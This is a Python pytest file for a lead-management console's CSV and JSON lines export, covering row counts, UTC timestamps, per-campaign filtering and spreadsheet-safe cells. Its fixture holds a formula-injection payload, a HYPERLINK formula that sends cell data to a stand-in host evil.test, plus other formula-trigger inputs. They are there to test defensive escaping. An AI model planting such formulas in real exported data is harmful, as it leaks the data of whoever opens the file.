"""The data out: every entity in CSV and JSON lines, counts that match, ISO 8601 UTC times, and
cells a spreadsheet opens without running what a lead typed; on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import func
from sqlmodel import select

from console.domain.spreadsheet import as_typed
from console.errors import Invalid
from console.models import Call, Lead, Meeting, MeetingReview, Outcome
from console.services import campaigns, exports
from tests.erasure import lived_lead
from tests.handoffs import add_lead

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Open")'
MODELS = {"leads": Lead, "calls": Call, "outcomes": Outcome, "meetings": Meeting}


@pytest.fixture
def app(app_on_both):
    """SQLite, and PostgreSQL, where the rows come through a server-side cursor."""
    return app_on_both


@pytest.fixture
def out(tmp_path):
    """An empty directory for the files (the test's database lives in tmp_path)."""
    return tmp_path / "export"


@pytest.fixture
def history(session, campaign, users):
    lived_lead(session, campaign, users["telecaller"], users["sales"])
    add_lead(session, campaign, company=EVIL, first_name="@SUM(1,2)", notes="-1+1")
    elsewhere = campaigns.create_campaign(
        session=session, slug="webinar", name="Webinar", script_id="inbound-demo-requests"
    )
    add_lead(session, elsewhere, first_name="Other")
    return campaign


def count(session, model):
    return session.exec(select(func.count()).select_from(model)).one()


def read_csv(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def read_jsonl(path):
    with path.open(encoding="utf-8") as file:
        return [json.loads(line) for line in file]


def test_csv_holds_every_row_and_opens_safely_in_a_spreadsheet(session, history, out):
    done = exports.export(session=session, directory=out, fmt="csv")
    assert sorted(path.name for path in out.iterdir()) == [
        "calls.csv", "leads.csv", "meetings.csv", "outcomes.csv", "reviews.csv",
    ]  # fmt: skip
    for entity, model in {**MODELS, "reviews": MeetingReview}.items():
        rows = read_csv(out / f"{entity}.csv")
        assert len(rows) == done.counts[entity] == count(session, model)
    leads = {row["id"]: row for row in read_csv(out / "leads.csv")}
    evil = next(row for row in leads.values() if as_typed(row["company"]) == EVIL)
    assert evil["company"] == "'" + EVIL and evil["first_name"] == "'@SUM(1,2)"
    assert evil["notes"] == "'-1+1" and evil["phone"].startswith("'+1212")
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for row in leads.values() for cell in row.values()
    )


def test_times_are_iso_8601_in_utc(session, history, out):
    exports.export(session=session, directory=out, fmt="csv")
    for row in read_csv(out / "calls.csv"):
        started = datetime.fromisoformat(row["started_at"])
        assert started.utcoffset().total_seconds() == 0 and row["started_at"].endswith("+00:00")


def test_json_lines_keep_every_value_as_stored(session, history, out):
    done = exports.export(session=session, directory=out, fmt="jsonl")
    leads = read_jsonl(out / "leads.jsonl")
    assert len(leads) == done.counts["leads"] == count(session, Lead)
    assert any(lead["company"] == EVIL for lead in leads)
    outcome = read_jsonl(out / "outcomes.jsonl")[0]
    stored = session.get(Outcome, outcome["id"])
    assert outcome["scores"] == stored.scores and outcome["answers"] == stored.answers
    assert datetime.fromisoformat(outcome["created_at"]) == stored.created_at.astimezone(UTC)


def test_one_campaign_exports_only_its_rows(session, history, out):
    done = exports.export(session=session, directory=out, fmt="jsonl", campaign=history)
    assert done.counts == {"leads": 2, "calls": 1, "outcomes": 1, "meetings": 1, "reviews": 1}
    assert {lead["campaign_id"] for lead in read_jsonl(out / "leads.jsonl")} == {history.id}


def test_an_unknown_format_is_refused_in_words(session, out):
    with pytest.raises(Invalid) as refused:
        exports.export(session=session, directory=out, fmt="xlsx")
    assert refused.value.fields == {"format": "csv or jsonl"}
    assert not out.exists()
